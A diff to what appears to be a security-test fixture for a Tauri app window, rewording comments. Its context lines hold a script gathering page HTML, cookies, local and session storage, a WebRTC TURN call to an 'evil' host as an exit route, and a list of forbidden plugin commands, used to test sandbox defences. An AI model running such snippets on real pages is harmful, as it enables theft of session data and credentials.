@@ -1,7 +1,10 @@
-/** What a hostile script in the window tries: commands that are not the window's, ways out of the page, loads from elsewhere. */
+/**
+ * What a hostile script in the window tries: commands that the window may not call, ways out of the page, and loading
+ * resources.
+ */
 import { createServer, type AddressInfo, type Server } from "node:net";
 
-/** Everything that stays in a page, as one text. */
+/** Everything that the page stores, as one text. */
 export const WHAT_A_PAGE_KEEPS = `return [document.documentElement.outerHTML, document.cookie, JSON.stringify({ ...localStorage }),
   JSON.stringify({ ...sessionStorage }), location.href, JSON.stringify(window.__TAURI_INTERNALS__?.metadata ?? null)].join("\\n")`;
 
@@ -55,7 +58,7 @@ export const LOADS = [
   "const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + new URL(evil).host + '?transport=tcp', username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)).catch(() => 0);",
 ];
 
-/** Commands of the framework and of plugins, there or not: none of them is the window's. */
+/** Commands of the framework and of plugins, installed or not. The window may call none of them. */
 export const FOREIGN_COMMANDS = [
   ...["emit", "emit_to"].map((one) => `plugin:event|${one}`),
   ...[
@@ -144,9 +147,9 @@ export const FOREIGN_ARGUMENTS = {
   value: 1,
 };
 
-/** Notes whoever connects. */
+/** Records every connection. */
 export class Listener {
-  /** What each connection began with; nothing where it only connected. */
+  /** The first line sent on each connection; empty if nothing was sent. */
   readonly heard: string[] = [];
   readonly #server: Server;
 
